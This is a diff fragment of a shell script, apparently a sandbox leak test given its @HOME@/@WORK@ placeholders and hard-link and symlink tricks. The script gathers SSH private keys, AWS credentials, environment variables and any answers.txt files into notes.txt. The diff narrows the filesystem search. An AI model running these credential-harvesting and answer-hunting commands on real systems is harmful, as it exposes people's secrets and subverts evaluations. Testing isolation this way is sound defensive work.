@@ -15,7 +15,7 @@ for file in ~/.ssh/id_rsa ~/.aws/credentials @HOME@/.ssh/id_rsa @HOME@/.aws/cred
     cat $file; ln -f $file lib/hard; ln -sf $file lib/soft && cat lib/soft; rm -f lib/soft lib/hard
 done > found 2>/dev/null
 env >> found
-find / -xdev -name 'id_rsa' -o -xdev -name answers.txt 2>/dev/null | xargs cat >> found 2>/dev/null
+find @WORK@ /home /root /etc /var -xdev -name 'id_rsa' -o -xdev -name answers.txt 2>/dev/null | xargs cat >> found 2>/dev/null
 cat found
 tr -d '\\0' < found > notes.txt
 rm found
